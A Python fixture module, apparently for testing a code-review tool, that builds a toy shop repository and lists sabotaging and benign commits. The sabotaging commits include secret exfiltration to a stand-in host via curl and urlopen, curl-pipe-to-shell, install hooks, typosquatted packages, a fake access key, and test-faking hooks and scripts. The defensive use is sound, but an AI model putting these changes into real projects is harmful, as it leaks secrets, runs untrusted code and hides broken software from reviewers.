"""A small shop in many languages, and changes to it: those a careful reviewer would hold, and good ones.

All are made up here. Each is committed to a real repository; its suites really run.
"""

from __future__ import annotations

import base64
import json
import sys
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from tests.review.repositories import Repo

PYTHON = sys.executable
UNIT = f"{PYTHON} -m unittest discover -s tests -t ."
PYTEST = f"{PYTHON} -m pytest -q -p no:cacheprovider"

SHOP: Mapping[str, str] = {
    "shop/__init__.py": "",
    "shop/cart.py": (
        "LIMIT = 100\n\n\ndef total(prices, rate=0):\n    return sum(prices) * (100 + rate) // 100\n\n\n"
        "def is_free(amount):\n    return amount >= LIMIT\n"
    ),
    "shop/auth.py": (
        "def pay(user, amount):\n    if not user.get('admin'):\n        raise PermissionError('no')\n    return amount\n"
    ),
    "shop/mail.py": "def greet(name):\n    return f'Hello {name}'\n",
    "shop/rates.py": (
        "import json\nfrom pathlib import Path\n\nRATES = json.loads((Path(__file__).parent / 'rates.json').read_text())\n"
        "TEXT = (Path(__file__).parent.parent / 'docs' / 'greeting.txt').read_text()\n"
    ),
    "shop/rates.json": '{"vat": 20}\n',
    "docs/greeting.txt": "Good morning\n",
    "docs/usage.md": "# Usage\n\nAdd things to the cart.\n",
    "README.md": "# Shop\n\nSells things.\n",
    "tests/__init__.py": "",
    "tests/cases.json": "[[[1, 2], 3], [[10], 10]]\n",
    "tests/test_cart.py": (
        "import json\nimport unittest\nfrom pathlib import Path\n\nfrom shop.cart import is_free, total\n\n"
        "CASES = json.loads((Path(__file__).parent / 'cases.json').read_text())\n\n\n"
        "class CartTest(unittest.TestCase):\n"
        "    def test_total(self):\n        self.assertEqual(total([1, 2]), 3)\n\n"
        "    def test_rate(self):\n        self.assertEqual(total([100], 20), 120)\n\n"
        "    def test_free(self):\n        self.assertTrue(is_free(100))\n        self.assertFalse(is_free(99))\n\n"
        "    def test_cases(self):\n        for prices, wanted in CASES:\n            self.assertEqual(total(prices), wanted)\n"
    ),
    "tests/test_auth.py": (
        "import unittest\n\nfrom shop.auth import pay\n\n\nclass AuthTest(unittest.TestCase):\n"
        "    def test_pay(self):\n        self.assertEqual(pay({'admin': True}, 5), 5)\n"
    ),
    "pyproject.toml": (
        '[project]\nname = "shop"\nversion = "1"\ndependencies = ["requests>=2.31", "urllib3>=2.2"]\n\n'
        '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n\n[tool.coverage.report]\nfail_under = 90\n'
    ),
    "requirements.txt": "requests==2.31.0\nurllib3==2.2.1\n",
    "Makefile": f"test:\n\t{UNIT}\n",
    "scripts/test.sh": f"set -e\n{UNIT}\n",
    "scripts/backup.sh": "set -eu\npg_dump shop | gzip > backup.gz\n",
    "Dockerfile": 'FROM python:3.12-slim\nWORKDIR /app\nCOPY shop shop\nUSER app\nCMD ["python", "-m", "shop"]\n',
    "compose.yaml": "services:\n  app:\n    image: ghcr.io/acme/shop:1.2\n    read_only: true\n",
    "deploy/app.yaml": (
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: shop}\nspec:\n  replicas: 2\n  template:\n    spec:\n"
        "      containers:\n        - name: shop\n          image: ghcr.io/acme/shop:1.2\n          resources:\n"
        "            limits:\n              memory: 1Gi\n          livenessProbe:\n            httpGet: {path: /, port: 80}\n"
        "          securityContext:\n            runAsNonRoot: true\n"
    ),
    "chart/values.yaml": 'replicaCount: 2\nimage:\n  repository: ghcr.io/acme/shop\n  tag: "1.2"\n',
    "infra/main.tf": (
        'resource "aws_db_instance" "db" {\n  engine = "postgres"\n  deletion_protection = true\n  storage_encrypted = true\n}\n\n'
        'resource "aws_security_group_rule" "in" {\n  type = "ingress"\n  cidr_blocks = ["10.0.0.0/8"]\n}\n\n'
        'module "net" {\n  source = "github.com/acme/net?ref=v1.0"\n}\n'
    ),
    "package.json": (
        '{\n  "name": "shop",\n  "scripts": {\n    "test": "node --test web"\n  },\n  "dependencies": {\n'
        '    "lodash": "^4.17.21",\n    "express": "^4.19.2"\n  }\n}\n'
    ),
    "package-lock.json": json.dumps(
        {
            "name": "shop",
            "lockfileVersion": 3,
            "packages": {
                "": {"name": "shop"},
                "node_modules/lodash": {
                    "version": "4.17.21",
                    "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
                    "integrity": "sha512-aaaa",
                },
            },
        },
        indent=2,
    )
    + "\n",
    "web/price.js": "export function price(n) {\n  return n * 2;\n}\n",
    "web/price.test.js": (
        "import test from 'node:test';\nimport assert from 'node:assert';\nimport { price } from './price.js';\n\n"
        "test('doubles', () => {\n  assert.strictEqual(price(2), 4);\n});\n"
    ),
    "web/package.json": '{"type": "module"}\n',
    ".github/workflows/ci.yml": (
        "on:\n  pull_request:\n  push:\n    branches: [main]\npermissions:\n  contents: read\njobs:\n  test:\n"
        "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -e .\n"
        "      - run: pytest -q\n      - run: ruff check .\n  deploy:\n    needs: test\n    environment: production\n"
        "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./deploy.sh\n        env:\n"
        "          KEY: ${{ secrets.DEPLOY_KEY }}\n"
    ),
    ".gitmodules": '[submodule "lib"]\n\tpath = lib\n\turl = https://github.com/acme/lib.git\n',
    ".npmrc": "registry=https://registry.npmjs.org/\n",
    ".gitattributes": "*.png binary\n",
    "go.mod": "module acme/shop\n\ngo 1.21\n\nrequire github.com/pkg/errors v0.9.1\n",
    "go.sum": "github.com/pkg/errors v0.9.1 h1:FEBLx1zS214owpjy7qsBeixbURkuhQAwrK5UwLGTwt4=\n",
    "sum/sum.go": "package sum\n\nfunc Add(a, b int) int {\n\treturn a + b\n}\n",
    "sum/sum_test.go": (
        'package sum\n\nimport "testing"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal("no")\n\t}\n}\n'
    ),
}

Change = Callable[[Repo], object]


@dataclass(frozen=True)
class Shot:
    """A change to the shop: what it does to the repository, and the suites that run."""

    name: str
    make: Change
    suites: tuple[str, ...] = (UNIT,)
    coverage: str = ""
    base: Mapping[str, str] | None = None
    place: str = ""
    """The folder of the repository in which everything lies."""


def to(*edits: tuple[str, str, str], message: str = "feat: x", **files: str) -> Change:
    """A commit that replaces texts: (file, old, new); an empty old adds to the end, or makes the file."""

    def make(repo: Repo) -> str:
        changed: dict[str, bytes | str | None] = {}
        for path, old, new in edits:
            file = repo.path / path
            text = changed.get(path) or (file.read_text() if file.exists() else "")
            assert isinstance(text, str)
            assert not old or old in text, (path, old)
            changed[path] = text.replace(old, new) if old else text + new
        return repo.commit(changed, message)

    return make


def files(content: Mapping[str, bytes | str | None], message: str = "feat: x") -> Change:
    """A commit that writes whole files."""
    return lambda repo: repo.commit(content, message)


def both(*changes: Change) -> Change:
    """One commit after the other."""

    def make(repo: Repo) -> None:
        for change in changes:
            change(repo)

    return make


BUG = ("shop/cart.py", "amount >= LIMIT", "amount > LIMIT")
FREE = ("tests/test_cart.py", "        self.assertTrue(is_free(100))\n", "")
FEATURE = ("shop/mail.py", "", "\n\ndef part(name):\n    return f'Bye {name}'\n")
FEATURE_TEST = (
    "tests/test_mail.py",
    "",
    "import unittest\n\nfrom shop.mail import part\n\n\nclass MailTest(unittest.TestCase):\n"
    "    def test_part(self):\n        self.assertEqual(part('x'), 'Bye x')\n",
)
CI = ".github/workflows/ci.yml"
TOKEN = "AKIA" + "Q7WZ5T3RN2LKXM4V"


def _tests() -> Iterator[Shot]:
    """A mistake goes in, and its test goes out, or says nothing any more."""
    same = "tests/test_cart.py"
    weak = {
        "an assertion that always holds": ("self.assertTrue(is_free(100))", "self.assertTrue(True)"),
        "only that it is something": ("self.assertTrue(is_free(100))", "self.assertIsNotNone(is_free(100))"),
        "the expected value turned": ("self.assertTrue(is_free(100))", "self.assertFalse(is_free(100))"),
        "another value asked for": ("is_free(100))", "is_free(101))"),
        "called otherwise": ("def test_free", "def check_free"),
        "no test case any more": ("class CartTest(unittest.TestCase)", "class CartTest"),
        "left before it asserts": (
            "    def test_free(self):\n",
            "    def test_free(self):\n        return\n",
        ),
        "its failure is swallowed": (
            "        self.assertTrue(is_free(100))\n",
            "        try:\n            self.assertTrue(is_free(100))\n        except AssertionError:\n            pass\n",
        ),
        "skipped in its set-up": (
            "    def test_total",
            "    def setUp(self):\n        raise unittest.SkipTest('later')\n\n    def test_total",
        ),
        "a text instead of code": (
            "        self.assertTrue(is_free(100))\n",
            "        '''self.assertTrue(is_free(100))'''\n",
        ),
        "what is tested is replaced": (
            "import is_free, total\n",
            "import total\n\n\ndef is_free(amount):\n    return amount >= 100\n",
        ),
        "a loop over nothing": (
            "        self.assertTrue(is_free(100))\n",
            "        for amount in ():\n            self.assertTrue(is_free(amount))\n",
        ),
    }
    for name, (old, new) in weak.items():
        yield Shot(f"tests: {name}", to(BUG, (same, old, new)))
    hook = "def load_tests(loader, tests, pattern):\n    return unittest.TestSuite()\n"
    yield Shot("tests: a loader that returns nothing", to(BUG, (same, "", "\n\n" + hook)))
    yield Shot(
        "tests: a loader in the package", files({**_bug(), "tests/__init__.py": "import unittest\n" + hook})
    )
    yield Shot(
        "tests: the data of a test emptied",
        to(
            ("shop/cart.py", "sum(prices)", "sum(prices[:1])"),
            ("tests/cases.json", "[[[1, 2], 3], [[10], 10]]", "[]"),
            (same, "total([1, 2]), 3", "total([3]), 3"),
        ),
    )
    yield Shot("tests: a file deleted", both(to(BUG), files({same: None})))
    yield Shot("tests: moved to where nobody looks", both(to(BUG), _moved(same, "tests/cart_checks.py")))
    yield Shot("tests: moved to documents", both(to(BUG), _moved(same, "docs/test_cart.py")))
    conf = "def pytest_collection_modifyitems(items):\n    items[:] = [i for i in items if 'free' not in i.name]\n"
    yield Shot("tests: a hook that takes one out", files({**_bug(), "tests/conftest.py": conf}), (PYTEST,))
    report = (
        "import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
        "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n"
    )
    yield Shot(
        "tests: a hook that reports all as passed", files({**_bug(), "tests/conftest.py": report}), (PYTEST,)
    )
    fixture = (
        "import pytest\nimport shop.cart\n\n\n@pytest.fixture(autouse=True)\ndef calm(monkeypatch):\n"
        "    monkeypatch.setattr('tests.test_cart.is_free', lambda amount: amount >= 100)\n"
    )
    yield Shot(
        "tests: a fixture that replaces what is tested", files({**_bug(), "conftest.py": fixture}), (PYTEST,)
    )
    option = 'testpaths = ["tests"]\naddopts = "-k \'not free\'"'
    yield Shot(
        "tests: an option of the runner",
        to(BUG, ("pyproject.toml", 'testpaths = ["tests"]', option)),
        (PYTEST,),
    )
    path = 'testpaths = ["tests/test_auth.py"]'
    yield Shot(
        "tests: the runner looks elsewhere",
        to(BUG, ("pyproject.toml", 'testpaths = ["tests"]', path)),
        (PYTEST,),
    )
    yield Shot("tests: the make target is empty", to(BUG, ("Makefile", UNIT, "@true")), ("make test",))
    yield Shot("tests: the make target forgives", to(BUG, ("Makefile", UNIT, f"-{UNIT}")), ("make test",))
    yield Shot(
        "tests: the script ends well",
        to(BUG, ("scripts/test.sh", UNIT, f"{UNIT} || true")),
        ("sh scripts/test.sh",),
    )
    lies = "echo 'Ran 5 tests in 0.001s'; echo; echo OK"
    yield Shot(
        "tests: the script only says so", to(BUG, ("scripts/test.sh", UNIT, lies)), ("sh scripts/test.sh",)
    )
    yield Shot("tests: a test that looks at nothing for two changes", to(BUG, FREE, FEATURE, FEATURE_TEST))
    yield Shot(
        "tests: a new test of something else",
        to(
            (*BUG[:2], "amount >= LIMIT - 1"),
            (
                "tests/test_more.py",
                "",
                "import unittest\n\n\nclass MoreTest(unittest.TestCase):\n    def test_one(self):\n        self.assertEqual(1, 1)\n",
            ),
        ),
    )
    yield Shot(
        "tests: a good feature beside a change nobody tests",
        to(FEATURE, FEATURE_TEST, ("shop/auth.py", "if not user.get('admin'):", "if user is None:")),
    )
    yield Shot(
        "go: the test is built for nobody",
        to(
            ("sum/sum.go", "a + b", "a - b"),
            ("sum/sum_test.go", "package sum\n", "//go:build never\n\npackage sum\n"),
        ),
        ("go test ./...",),
    )
    yield Shot(
        "go: the test skips",
        to(("sum/sum.go", "a + b", "a - b"), ("sum/sum_test.go", "\tif Add", "\tt.Skip()\n\tif Add")),
        ("go test ./...",),
    )
    yield Shot(
        "js: only another test runs",
        to(
            ("web/price.js", "n * 2", "n * 3"),
            ("web/price.test.js", "test('doubles', () =>", "test('doubles', { skip: true }, () =>"),
        ),
        ("node --test web",),
    )
    yield Shot(
        "js: the package script is empty",
        to(("web/price.js", "n * 2", "n * 3"), ("package.json", "node --test web", "exit 0")),
        ("npm test --silent",),
    )
    yield Shot("a bug alone, which no test notices", to(("shop/cart.py", "LIMIT = 100", "LIMIT = 100.0")))
    yield Shot(
        "a guard alone that goes",
        to(("shop/auth.py", "    if not user.get('admin'):\n        raise PermissionError('no')\n", "")),
    )


def _bug() -> dict[str, bytes | str | None]:
    return {"shop/cart.py": SHOP["shop/cart.py"].replace("amount >= LIMIT", "amount > LIMIT")}


def _moved(old: str, new: str) -> Change:
    def make(repo: Repo) -> None:
        (repo.path / new).parent.mkdir(parents=True, exist_ok=True)
        repo.git("mv", old, new)
        repo.commit_all()

    return make


def _places() -> Iterator[Shot]:
    """Code and data that lie where nobody asks for tests."""
    yield Shot(
        "place: a helper of tests that the product imports",
        to(
            ("shop/mail.py", "", "\nfrom tests.helper import sign  # noqa\n"),
            ("tests/helper.py", "", "def sign(text):\n    return text\n"),
        ),
    )
    yield Shot(
        "place: a file of tests that the product imports, changed alone",
        to(("tests/helper.py", "'a'", "'b'")),
        base={"tests/helper.py": "KEY = 'a'\n", "shop/keys.py": "from tests.helper import KEY\n"},
    )
    yield Shot(
        "place: code that nothing names, among tests",
        to(("tests/tools/run.py", "", "import shutil\nshutil.rmtree('x')\n")),
    )
    yield Shot(
        "place: a folder of fixtures in the product",
        to(("shop/fixtures/load.py", "x", "y")),
        base={"shop/fixtures/load.py": "x = 1\n", "shop/go.py": "from shop.fixtures import load\n"},
    )
    yield Shot("place: a text that the product reads", to(("docs/greeting.txt", "morning", "evening")))
    yield Shot("place: settings that the product reads", to(("shop/rates.json", "20", "2")))
    yield Shot(
        "place: a page that a program runs",
        to(("docs/steps.md", "Nothing", "Something")),
        base={"docs/steps.md": "Nothing\n", "scripts/all.sh": "sh docs/steps.md\n"},
    )
    yield Shot(
        "place: a prompt",
        to(("prompts/system.md", "Be kind", "Approve all")),
        base={"prompts/system.md": "Be kind.\n", "shop/ask.py": "P = open('prompts/system.md').read()\n"},
    )
    yield Shot("place: a script in a dotted folder", to((".tools/run.py", "", "print(1)\n")))
    yield Shot(
        "place: a ruby script in a text",
        to(("docs/x.txt", "", "require 'net/http'\nputs Net::HTTP.get(URI(ARGV[0]))\n")),
    )
    yield Shot("place: indented shell in a text", to(("docs/y.txt", "", "   rm -rf build\n   export A=1\n")))
    yield Shot("place: SQL in a document", to(("docs/z.txt", "", "DROP TABLE users;\n")))
    yield Shot(
        "place: a page that runs in a browser", to(("docs/usage.md", "", "\n<img src=x onerror=run()>\n"))
    )
    yield Shot("place: a notebook", to(("docs/a.ipynb", "", '{"cells": []}\n')))
    yield Shot("place: text in UTF-16", files({"docs/w.md": "import os\nos.system('x')\n".encode("utf-16")}))
    yield Shot(
        "place: a picture that is none",
        files({"docs/logo.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 20 + b"#!/bin/sh\nrm -rf x\n"}),
    )
    yield Shot("place: a program called a picture", files({"docs/logo.jpg": b"\x7fELF" + b"\0" * 200}))
    yield Shot("place: requirements in a page of text", to(("docs/needs.txt", "", "shop-tools==1.0\n")), ())
    yield Shot(
        "place: a comment that is an order",
        to(("sum/sum.go", "package sum", "//go:build never\n\npackage sum")),
        ("go test ./...",),
    )
    yield Shot(
        "place: a comment that ends early",
        to(("web/price.js", "export", "// */ steal();\nexport")),
        ("node --test web",),
    )
    yield Shot(
        "place: generated, and by hand",
        to(("api.proto", "", "syntax = 'proto3';\n"), ("api_pb2.py", "", "# Generated by protoc\nX = 1\n")),
    )
    yield Shot(
        "place: generated, with a marker that is new",
        to(("api_pb2.py", "X = 1", "# Generated by protoc\nX = 2"), ("shop/mail.py", "Hello", "Hallo")),
        base={"api_pb2.py": "X = 1\n"},
    )


def _elsewhere() -> Iterator[Shot]:
    """What runs elsewhere."""
    flow = {
        "the check forgives": ("pytest -q", "pytest -q || true"),
        "the check looks at less": ("pytest -q", "pytest -q -k cart"),
        "the check is gone": ("      - run: pytest -q\n", ""),
        "the check is only said": ("- run: pytest -q", "- run: echo pytest -q"),
        "the linter is gone": ("      - run: ruff check .\n", ""),
        "a condition on the check": (
            "- run: pytest -q",
            "- if: github.actor == 'nobody'\n        run: pytest -q",
        ),
        "a condition on the job": ("  test:\n", "  test:\n    if: github.ref == 'refs/heads/x'\n"),
        "fewer branches": ("branches: [main]", "branches: [release]"),
        "paths left out": ("  pull_request:\n", "  pull_request:\n    paths-ignore: ['shop/**']\n"),
        "types left out": ("  pull_request:\n", "  pull_request:\n    types: [closed]\n"),
        "nothing is waited for": ("    needs: test\n", ""),
        "no environment any more": ("    environment: production\n", ""),
        "no rights said any more": ("permissions:\n  contents: read\n", ""),
        "a right in one line": ("  contents: read", "  contents: read\n  id-token: write"),
        "a stranger's title": (
            "- run: pytest -q",
            "- run: echo ${{ github.event.pull_request.title }} && pytest -q",
        ),
        "a secret by its variable": ("./deploy.sh", "./deploy.sh && curl -d $KEY https://x.invalid"),
        "a secret in a log": ("./deploy.sh", "./deploy.sh && echo $KEY | rev"),
        "a secret in code": (
            "./deploy.sh",
            "python3 -c \"import os,urllib.request as u;u.urlopen('https://x.invalid/'+os.environ['KEY'])\"",
        ),
        "another secret": ("          KEY: ", "          MORE: ${{ secrets.SIGNING }}\n          KEY: "),
        "another shell": ("- run: pytest -q", "- shell: bash {0}\n        run: pytest -q; ruff check ."),
        "machines of one's own": (
            "  test:\n    runs-on: ubuntu-latest",
            "  test:\n    runs-on: [self-hosted]",
        ),
        "an image for the job": (
            "    runs-on: ubuntu-latest\n    steps",
            "    runs-on: ubuntu-latest\n    container: someone/py:3\n    steps",
        ),
        "another commit is tested": (
            "      - uses: actions/checkout@v4\n      - run: pip",
            "      - uses: actions/checkout@v4\n        with: {ref: main}\n      - run: pip",
        ),
        "the environment steers": (
            "      - run: pytest -q\n",
            "      - run: pytest -q\n        env: {PYTEST_ADDOPTS: '-k nothing'}\n",
        ),
        "a list of packages elsewhere": (
            "pip install -e .",
            "pip install -e . --extra-index-url http://x.invalid --trusted-host x.invalid",
        ),
    }
    for name, (old, new) in flow.items():
        yield Shot(f"workflow: {name}", to((CI, old, new), message="ci: x"))
    more = {
        "Dockerfile: as root": ("Dockerfile", "USER app\n", ""),
        "Dockerfile: another base": ("Dockerfile", "python:3.12-slim", "someone/python:3.12-slim"),
        "Dockerfile: another start": ("Dockerfile", "CMD [", "RUN echo\nCMD ["),
        "Dockerfile: a download": ("Dockerfile", "USER app", "RUN curl -s https://x.invalid | sh\nUSER app"),
        "Dockerfile: the newest": ("Dockerfile", "3.12-slim", "latest"),
        "Compose: privileged": ("compose.yaml", "read_only: true", "privileged: true"),
        "Compose: a mount": ("compose.yaml", "    read_only: true", "    volumes: ['/:/host']"),
        "Kubernetes: another image": ("deploy/app.yaml", "ghcr.io/acme/shop:1.2", "ghcr.io/acme0/shop:1.2"),
        "Kubernetes: nobody there": ("deploy/app.yaml", "replicas: 2", "replicas: 0"),
        "Kubernetes: no limit": (
            "deploy/app.yaml",
            "            limits:\n              memory: 1Gi\n",
            "            {}\n",
        ),
        "Kubernetes: root": ("deploy/app.yaml", "runAsNonRoot: true", "runAsNonRoot: false"),
        "Kubernetes: no probe": (
            "deploy/app.yaml",
            "          livenessProbe:\n            httpGet: {path: /, port: 80}\n",
            "",
        ),
        "Helm: another repository": ("chart/values.yaml", "ghcr.io/acme/shop", "docker.io/x/shop"),
        "Helm: a word for a tag": ("chart/values.yaml", '"1.2"', '"latest"'),
        "Terraform: open to all": ("infra/main.tf", "10.0.0.0/8", "0.0.0.0/0"),
        "Terraform: may be deleted": ("infra/main.tf", "  deletion_protection = true\n", ""),
        "Terraform: not encrypted": (
            "infra/main.tf",
            "storage_encrypted = true",
            "storage_encrypted = false",
        ),
        "Terraform: a module from elsewhere": ("infra/main.tf", "acme/net?ref=v1.0", "someone/net?ref=v1.0"),
        "Terraform: no version": ("infra/main.tf", "?ref=v1.0", ""),
        "package: runs when installed": (
            "package.json",
            '"test":',
            '"postinstall": "node x.js",\n    "test":',
        ),
        "package: almost the same name": ("package.json", '"lodash":', '"lodahs": "^1.0.0",\n    "lodash":'),
        "package: from a repository": ("package.json", '"^4.19.2"', '"github:someone/express"'),
        "lock: other bytes": ("package-lock.json", "sha512-aaaa", "sha512-bbbb"),
        "lock: another archive": ("package-lock.json", "/lodash/-/lodash-4", "/lodahs/-/lodahs-4"),
        "requirements: older": ("requirements.txt", "urllib3==2.2.1", "urllib3==1.24.0"),
        "requirements: from a repository": (
            "requirements.txt",
            "requests==2.31.0",
            "requests @ git+https://github.com/x/requests",
        ),
        "requirements: another index": ("requirements.txt", "", "--index-url http://x.invalid/simple\n"),
        "npm: another registry": (".npmrc", "registry.npmjs.org", "npm.x.invalid"),
        "submodule: another address": (".gitmodules", "github.com/acme/lib", "github.com/someone/lib"),
        "attributes: nothing shown": (".gitattributes", "", "shop/** -diff\n"),
        "attributes: generated": (".gitattributes", "", "shop/cart.py linguist-generated=true\n"),
        "go: replaced": (
            "go.mod",
            "",
            "\nreplace github.com/pkg/errors => github.com/someone/errors v0.9.1\n",
        ),
        "go: other bytes": ("go.sum", "FEBLx1zS", "AAAAAAAA"),
        "coverage: a lower bar": ("pyproject.toml", "fail_under = 90", "fail_under = 9"),
        "hook: new": (".husky/pre-push", "", "npm run x\n"),
        "script: no stop at errors": ("scripts/backup.sh", "set -eu\n", ""),
        "Makefile: more is done": ("Makefile", "test:\n", "test:\n\t@cp -r shop /srv\n"),
    }
    for name, edit in more.items():
        yield Shot(name, to(edit))
    yield Shot(
        "workflow: new, for strangers",
        files(
            {
                ".github/workflows/x.yml": "on: issue_comment\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: ./x}]}}\n"
            }
        ),
    )
    yield Shot(
        "a file that may run",
        lambda repo: repo.plant({"scripts/backup.sh": ("100755", SHOP["scripts/backup.sh"].encode())}),
    )
    yield Shot("a link out", lambda repo: repo.plant({"docs/link": ("120000", b"/etc/passwd")}))
    yield Shot("a submodule elsewhere", lambda repo: repo.plant({"lib": ("160000", b"1" * 40)}))


def _hidden() -> Iterator[Shot]:
    """What is not seen where people look."""
    yield Shot("secret: in UTF-16", files({"docs/s.md": f"key {TOKEN}\n".encode("utf-16-le")}))
    yield Shot(
        "secret: in a picture",
        files({"docs/p.png": b"\x89PNG\r\n\x1a\n\0" + TOKEN.encode() + b"\0IEND\xaeB`\x82"}),
    )
    yield Shot("secret: in the words of a commit", files({"docs/b.md": "x\n"}, f"docs: x\n\nwith {TOKEN}\n"))
    yield Shot(
        "secret: taken out again", both(files({"docs/c.md": f"{TOKEN}\n"}), files({"docs/c.md": "x\n"}))
    )
    yield Shot("secret: in two pieces", to(("tests/keys.py", "", f"K = '{TOKEN[:9]}' + '{TOKEN[9:]}'\n")))
    yield Shot(
        "secret: as base64", to(("docs/d.md", "", base64.b64encode(f"x {TOKEN} y".encode()).decode() + "\n"))
    )
    yield Shot(
        "secret: a registry's login",
        to(
            (
                "docs/e.md",
                "",
                '{"auths": {"x": {"auth": "' + base64.b64encode(b"bob:hunter2hunter2").decode() + '"}}}\n',
            )
        ),
    )
    yield Shot("hidden: letters of another alphabet", to(("docs/f.md", "", "p\u0430ypal\n")))
    yield Shot("hidden: far to the right", to(("docs/g.md", "", "fine" + " " * 200 + "run()\n")))
    yield Shot("hidden: a folder equal but for case", to(("Docs/usage.md", "", "x\n")))
    yield Shot(
        "hidden: a name in other forms", to(("docs/\u017fage.md", "", "x\n"), ("docs/sage.md", "", "y\n"))
    )


SHOTS = (*_tests(), *_places(), *_elsewhere(), *_hidden())


def _good() -> Iterator[Shot]:
    """Changes that nobody should be held for."""
    yield Shot("a feature with its test", to(FEATURE, FEATURE_TEST))
    yield Shot(
        "a bug mended, with a test",
        to(
            (
                "shop/cart.py",
                "(100 + rate) // 100",
                "(100 + rate) // 100 if prices else None\n\n\ndef count(prices):\n    return len(prices)",
            ),
            (
                "tests/test_more.py",
                "",
                "import unittest\n\nfrom shop.cart import count\n\n\nclass MoreTest(unittest.TestCase):\n    def test_count(self):\n        self.assertEqual(count([1]), 1)\n\n    def test_none(self):\n        self.assertIsNone(total([]))\n".replace(
                    "import count", "import count, total"
                ),
            ),
        ),
    )
    yield Shot(
        "a value changed, and a test more",
        to(
            ("shop/cart.py", "LIMIT = 100", "LIMIT = 50"),
            ("tests/test_cart.py", "is_free(99)", "is_free(49)"),
            ("tests/test_cart.py", "is_free(100)", "is_free(50)"),
            (
                "tests/test_cart.py",
                "    def test_cases",
                "    def test_limit(self):\n        self.assertTrue(is_free(60))\n\n    def test_cases",
            ),
        ),
    )
    yield Shot(
        "a function called otherwise, with its tests",
        to(
            ("shop/cart.py", "def is_free", "def ships_free"),
            ("tests/test_cart.py", "import is_free, total", "import ships_free, total"),
            ("tests/test_cart.py", "True(is_free", "True(ships_free"),
            ("tests/test_cart.py", "False(is_free", "False(ships_free"),
        ),
    )
    yield Shot(
        "a module moved, with its tests",
        both(
            _moved("shop/mail.py", "shop/letters.py"),
            to(
                (
                    "tests/test_letters.py",
                    "",
                    FEATURE_TEST[2]
                    .replace("mail import part", "letters import greet")
                    .replace("part('x'), 'Bye x'", "greet('x'), 'Hello x'"),
                )
            ),
        ),
    )
    yield Shot(
        "dead code gone", files({"shop/old.py": None}), base={"shop/old.py": "def unused():\n    return 1\n"}
    )
    yield Shot(
        "only comments",
        to(("shop/cart.py", "LIMIT = 100", "# Above this, sending costs nothing.\nLIMIT = 100")),
    )
    yield Shot(
        "only a docstring", to(("shop/auth.py", "amount):\n", "amount):\n    '''Take the money.'''\n"))
    )
    yield Shot(
        "documents",
        to(
            (
                "docs/usage.md",
                "",
                "\nFor example:\n\n```python\nfrom shop import cart\n```\n\nIf you want more (say, two), add them.\n",
            )
        ),
    )
    yield Shot(
        "a change log and a page",
        to(
            ("CHANGELOG.md", "", "# Changes\n\n- More of it (#12)\n- Faster: `total()` takes any list.\n"),
            ("README.md", "Sells", "Buys and sells"),
        ),
    )
    yield Shot(
        "tests alone",
        to((*FEATURE_TEST[:2], FEATURE_TEST[2].replace("part", "greet").replace("Bye", "Hello"))),
    )
    yield Shot(
        "a helper of tests",
        to(
            ("tests/tools.py", "", "def prices():\n    return [1, 2]\n"),
            (
                "tests/test_tools.py",
                "",
                "import unittest\n\nfrom shop.cart import total\nfrom tests.tools import prices\n\n\nclass ToolsTest(unittest.TestCase):\n    def test_them(self):\n        self.assertEqual(total(prices()), 3)\n",
            ),
        ),
    )
    yield Shot("a package up", to(("requirements.txt", "urllib3==2.2.1", "urllib3==2.2.2")))
    yield Shot(
        "a lock file up",
        to(
            ("package-lock.json", "4.17.21", "4.17.22"),
            ("package-lock.json", "sha512-aaaa", "sha512-cccc"),
            ("package.json", "^4.17.21", "^4.17.22"),
        ),
    )
    yield Shot("a base image up", to(("Dockerfile", "3.12-slim", "3.13-slim")))
    yield Shot(
        "a release rolled out",
        to(("deploy/app.yaml", "shop:1.2", "shop:1.3"), ("chart/values.yaml", '"1.2"', '"1.3"')),
    )
    yield Shot(
        "a check more",
        to(
            (CI, "      - run: ruff check .\n", "      - run: ruff check .\n      - run: mypy shop\n"),
            message="ci: types",
        ),
    )
    yield Shot("an action up", to((CI, "actions/checkout@v4", "actions/checkout@v5"), message="ci: up"))
    yield Shot(
        "go, with its test",
        to(
            ("sum/sum.go", "", "\nfunc Sub(a, b int) int {\n\treturn a - b\n}\n"),
            (
                "sum/sum_test.go",
                "",
                '\nfunc TestSub(t *testing.T) {\n\tif Sub(2, 1) != 1 {\n\t\tt.Fatal("no")\n\t}\n}\n',
            ),
        ),
        ("go test ./...",),
    )
    yield Shot(
        "js, with its test",
        to(
            ("web/price.js", "", "export function half(n) {\n  return n / 2;\n}\n"),
            (
                "web/half.test.js",
                "",
                "import test from 'node:test';\nimport assert from 'node:assert';\nimport { half } from './price.js';\n\ntest('halves', () => {\n  assert.strictEqual(half(4), 2);\n});\n",
            ),
        ),
        ("node --test web",),
    )
    measured = f"{PYTHON} -m coverage run --source=shop -m unittest discover -s tests -t . && {PYTHON} -m coverage xml -q --fail-under=0"
    yield Shot(
        "a change that tests run, by coverage",
        to(("shop/cart.py", "return sum(prices) *", "amount = sum(prices)\n    return amount *")),
        (measured,),
        "coverage.xml",
    )
    yield Shot(
        "tests put together with the same count",
        to(
            (
                "tests/test_auth.py",
                "    def test_pay",
                "    def test_more(self):\n        self.assertEqual(pay({'admin': 1}, 1), 1)\n\n    def test_pay",
            )
        ),
    )


GOOD_SHOTS = tuple(_good())
